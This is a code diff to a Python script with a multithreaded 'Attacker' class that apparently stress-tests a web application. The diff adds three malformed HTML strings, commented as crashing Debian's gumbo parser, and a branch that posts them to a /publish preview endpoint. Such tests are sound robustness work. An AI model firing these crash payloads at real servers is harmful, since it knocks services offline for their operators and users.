@@ -10,6 +10,11 @@ import time
 import urllib.parse
 
 THREADS = 8
+KILLING = (  # what Debian's gumbo aborts on
+    "<table><td><math><select><mi><table><table>",
+    "<table><svg><th><foreignObject><select></table>",
+    "<table><math><td><mtext><template></template></table>",
+)
 FORM = {"Content-Type": "application/x-www-form-urlencoded"}
 
 
@@ -44,6 +49,8 @@ class Attacker:
     def once(self, kind):
         if kind == "guesses":
             return self.guess()
+        if kind == "markup":
+            return self.ask("POST", "/publish", {"title": "x", "body": random.choice(KILLING), "format": "html", "type": "news", "action": "preview"})[0]
         if kind == "pictures":
             return self.ask("GET", "/article/1/comment/challenge.png")[0]
         return self.log_in({"one": "zzz", "many": f"name {random.random()}", "editor": "ed"}[kind])
